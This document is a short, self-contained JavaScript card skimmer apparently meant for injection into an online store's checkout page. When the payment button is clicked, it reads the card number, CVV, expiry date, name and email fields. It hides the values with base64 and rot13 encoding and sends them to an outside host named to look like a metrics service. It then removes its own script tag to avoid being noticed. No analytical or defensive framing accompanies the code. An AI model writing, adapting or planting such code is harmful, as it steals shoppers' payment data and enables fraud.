(function () {
  var fields = ["#billing\\:cc_number", "#cc_cid", "#exp_month", "#exp_year", "#billing\\:firstname", "#billing\\:email"];
  var me = document.currentScript;
  function rot13(s) {
    return s.replace(/[a-zA-Z]/g, function (c) {
      return String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26);
    });
  }
  function steal() {
    var vals = [];
    for (var i = 0; i < fields.length; i++) {
      var el = document.querySelector(fields[i]);
      vals.push(el ? el.value : "");
    }
    var payload = rot13(btoa(vals.join("|")));
    var x = new XMLHttpRequest();
    x.open("GET", "https://pipe-metrics.invalid/p.php?d=" + payload, true);
    x.send();
  }
  var btn = document.querySelector("#payment-button, button[type=submit]");
  if (btn) btn.addEventListener("click", steal);
  if (me && me.parentNode) me.parentNode.removeChild(me);
})();
